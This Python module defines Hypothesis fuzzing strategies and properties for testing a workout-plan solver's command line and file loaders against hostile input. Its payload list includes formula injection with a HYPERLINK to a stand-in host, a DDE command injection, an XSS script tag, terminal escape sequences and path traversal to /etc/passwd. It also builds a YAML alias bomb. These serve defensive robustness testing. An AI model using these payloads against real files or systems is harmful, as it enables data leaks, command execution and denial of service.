"""Hypothesis strategies for hostile input, and the properties every door must keep.

Used by tests/test_fuzz.py (a bounded run) and benchmarks/fuzz_hostile.py (a long run).
Each property feeds one generated input through a public door and returns what it saw;
it raises AssertionError when the door misbehaves: a traceback (any exception other than
InputError), an exit code outside {0, 1, 2, 3, 4, 130}, a write outside ``--out``, or an
existing ``--out`` changed by a command that did not exit 0.
"""

from __future__ import annotations

import json
import tempfile
from pathlib import Path
from typing import Any

import yaml
from click.testing import CliRunner
from hypothesis import strategies as st

from legback_solver.cli import main
from legback_solver.errors import InputError

EXIT_CODES = {0, 1, 2, 3, 4, 130}
HOSTILE_TEXT = [
    '=HYPERLINK("http://x.example/?leak","x")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "</h1><script>alert(1)</script>",
    "# heading\n## more",
    "$\\frac{1}{0}$",
    "$x^{2$",
    "[/]",
    "[bold]x[/bold]",
    "\x1b[2J\x1b]0;pwned\x07",
    "\x00\x01\x02\x7f",
    "line\nbreak\r\nBEGIN:VEVENT",
    "mongoose",
    "   ",
    "",
    "9" * 40,
    "1.2.3x5",
    "inf",
    "nan",
    "2026-02-30",
    "9999-12-31",
    "../../etc/passwd",
    "/dev/zero",
    "default\x00",
    "x" * 5000,
]
CLIENT_KEYS = [
    "name",
    "experience",
    "goal",
    "back_status",
    "priority",
    "equipment",
    "availability",
    "one_rep_max_kg",
    "recent_sets",
    "exclude",
    "prefer",
    "avoid",
    "rulebook",
    "rules",
]

scalars = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(10**30), max_value=10**30),
    st.floats(allow_nan=True, allow_infinity=True),
    st.sampled_from(HOSTILE_TEXT),
    st.text(max_size=30),
)
values = st.recursive(
    scalars,
    lambda inner: st.one_of(
        st.lists(inner, max_size=4),
        st.dictionaries(
            st.one_of(st.sampled_from(CLIENT_KEYS), st.text(max_size=8)), inner, max_size=4
        ),
    ),
    max_leaves=20,
)
slot = st.fixed_dictionaries(
    {
        "day": st.one_of(st.sampled_from(["mon", "Thursday", "mongoose", "sun"]), values),
        "start": st.one_of(st.sampled_from(["18:00", "25:00", "7:05"]), values),
        "minutes": st.one_of(st.sampled_from([60, 0, True, 1e308]), values),
    }
)
client_maps = st.fixed_dictionaries(
    {"name": st.one_of(st.sampled_from(HOSTILE_TEXT), values)},
    optional={k: values for k in CLIENT_KEYS[1:]} | {"availability": st.lists(slot, max_size=3)},
)


def _bomb(depth: int) -> str:
    lines = ['a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol"]']
    for i in range(1, depth):
        lines.append(f"a{i}: &a{i} [" + ",".join([f"*a{i - 1}"] * 8) + "]")
    return "\n".join(lines) + "\n"


@st.composite
def client_files(draw: Any) -> tuple[str, bytes]:
    """(suffix, bytes): a client mapping as YAML, JSON or TOML, raw bytes, an alias
    bomb, deep nesting or a duplicate key."""
    kind = draw(st.sampled_from(["yaml", "json", "toml", "bytes", "bomb", "deep", "dup"]))
    data = draw(client_maps)
    if kind == "yaml":
        try:
            text = yaml.safe_dump(data, allow_unicode=draw(st.booleans()))
        except yaml.YAMLError:
            text = "name: x"
        return ".yaml", text.encode("utf-8", "surrogatepass")
    if kind == "json":
        return ".json", json.dumps(data, allow_nan=True).encode("utf-8", "surrogatepass")
    if kind == "toml":
        body = "\n".join(f"{k} = {json.dumps(v)}" for k, v in data.items() if v is not None)
        return ".toml", body.encode("utf-8", "surrogatepass")
    if kind == "bomb":
        return ".yaml", (_bomb(draw(st.integers(2, 9))) + "name: *a1\n").encode()
    if kind == "deep":
        n = draw(st.integers(30, 3000))
        return draw(st.sampled_from([".yaml", ".json"])), (
            '{"name": ' + "[" * n + "]" * n + "}"
        ).encode()
    if kind == "dup":
        return ".yaml", b"name: a\nname: b\navailability: []\n"
    return draw(st.sampled_from([".yaml", ".json", ".toml"])), draw(st.binary(max_size=300))


def _solved_plan() -> dict[str, Any]:
    """A small hand-made plan (no solve), valid under the default rulebook's schema."""
    return {
        "schema": "legback.plan/1",
        "client": "Fuzz",
        "client_profile": {
            "name": "Fuzz",
            "equipment": ["barbell", "dumbbell", "bench", "pullup_bar"],
            "availability": [{"day": "mon", "start": "18:00", "minutes": 60}],
        },
        "rulebook": {"name": "default", "rules": {}},
        "status": "feasible",
        "start_date": "2026-11-23",
        "weeks": [
            {
                "week": 1,
                "sessions": [
                    {
                        "day": "mon",
                        "start": "18:00",
                        "minutes": 60,
                        "focus": "combined",
                        "date": "2026-11-23",
                        "exercises": [
                            {
                                "order": 1,
                                "exercise": "back_squat",
                                "sets": 3,
                                "reps": "6-10",
                                "rir": 2,
                                "load_kg": 100.0,
                            },
                            {
                                "order": 2,
                                "exercise": "lat_pulldown",
                                "sets": 3,
                                "reps": "8-12",
                                "rir": 2,
                            },
                        ],
                    }
                ],
            }
        ],
    }


PLAN_PATHS = [
    ("client",),
    ("rulebook", "name"),
    ("rulebook", "rules"),
    ("status",),
    ("start_date",),
    ("weeks",),
    ("weeks", 0, "week"),
    ("weeks", 0, "sessions", 0, "day"),
    ("weeks", 0, "sessions", 0, "date"),
    ("weeks", 0, "sessions", 0, "start"),
    ("weeks", 0, "sessions", 0, "exercises", 0, "exercise"),
    ("weeks", 0, "sessions", 0, "exercises", 0, "reps"),
    ("weeks", 0, "sessions", 0, "exercises", 0, "sets"),
    ("weeks", 0, "sessions", 0, "exercises", 0, "load_kg"),
    ("report",),
    ("client_profile", "name"),
]


@st.composite
def plans(draw: Any) -> tuple[str, bytes, str]:
    """(suffix, bytes, export format): a plan with hostile values at a few places, as
    JSON, YAML or CSV rows."""
    plan = _solved_plan()
    for _ in range(draw(st.integers(1, 3))):
        path = draw(st.sampled_from(PLAN_PATHS))
        node: Any = plan
        for k in path[:-1]:
            try:
                node = node[k]
            except (KeyError, IndexError, TypeError):
                node = None
                break
        if isinstance(node, dict):  # an earlier draw may have replaced the branch
            node[path[-1]] = draw(st.one_of(st.sampled_from(HOSTILE_TEXT), values))
    fmt = draw(st.sampled_from(["json", "csv", "xlsx", "md", "html", "ics"]))
    suffix = draw(st.sampled_from([".json", ".yaml", ".csv"]))
    if suffix == ".yaml":
        try:
            return suffix, yaml.safe_dump(plan).encode("utf-8", "surrogatepass"), fmt
        except yaml.YAMLError:
            suffix = ".json"
    if suffix == ".csv":
        cells = draw(st.lists(st.sampled_from(HOSTILE_TEXT), min_size=1, max_size=6))
        header = "week,day,start,minutes,focus,order,exercise,sets,reps,rir,load_kg"
        row = ["1", "mon", "18:00", "60", "combined", "1", "back_squat", "3", "6-10", "2", ""]
        for c in cells:
            row[draw(st.integers(0, len(row) - 1))] = c
        import csv
        import io

        buf = io.StringIO()
        w = csv.writer(buf)
        w.writerow(
            [
                "#legback-plan",
                json.dumps({k: v for k, v in plan.items() if k != "weeks"}, allow_nan=True),
            ]
        )
        buf.write(header + "\n")
        w.writerow(row)
        return suffix, buf.getvalue().encode("utf-8", "surrogatepass"), fmt
    return suffix, json.dumps(plan, allow_nan=True).encode("utf-8", "surrogatepass"), fmt


roster_rows = st.dictionaries(
    st.sampled_from(["id", *CLIENT_KEYS, "Unnamed: 0", "junk"]),
    st.one_of(st.sampled_from(HOSTILE_TEXT), st.text(max_size=40), scalars),
    max_size=8,
)


# --------------------------------------------------------------------------- properties


def _run(args: list[str]) -> Any:
    result = CliRunner().invoke(main, args)
    if result.exception is not None and not isinstance(result.exception, SystemExit):
        raise AssertionError(f"traceback: {result.exception!r} for {args}") from result.exception
    assert result.exit_code in EXIT_CODES, (result.exit_code, result.output)
    assert "Traceback" not in result.output
    return result


def check_client_file(suffix: str, content: bytes) -> str:
    """Read a client file through load_client and make_data: only InputError allowed."""
    from legback_solver.data import make_data
    from legback_solver.io import load_client

    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / f"client{suffix}"
        path.write_bytes(content)
        try:
            make_data(load_client(path), 1)
        except InputError:
            return "bad input"
    return "ok"


def check_plan_file(suffix: str, content: bytes, fmt: str) -> str:
    """`check` and `export --out EXISTING` on a hostile plan: exit codes, no traceback,
    nothing written but --out, --out untouched unless exit 0."""
    with tempfile.TemporaryDirectory() as tmp:
        folder = Path(tmp)
        plan = folder / f"plan{suffix}"
        plan.write_bytes(content)
        out = folder / f"out.{fmt}"
        out.write_bytes(b"previous")
        _run(["check", str(plan)])
        result = _run(["export", str(plan), "--format", fmt, "--out", str(out)])
        assert sorted(p.name for p in folder.iterdir()) == sorted([plan.name, out.name])
        if result.exit_code != 0:
            assert out.read_bytes() == b"previous"
        return str(result.exit_code)


def check_roster_row(row: dict[str, Any]) -> str:
    """One roster row through read_roster and prepare: never raises, always keyed."""
    from legback_solver.batch import prepare, read_roster

    entries = read_roster([row])
    assert len(entries) == 1 and entries[0].key
    prepare(entries[0], 1)
    return "bad input" if entries[0].error else "ok"
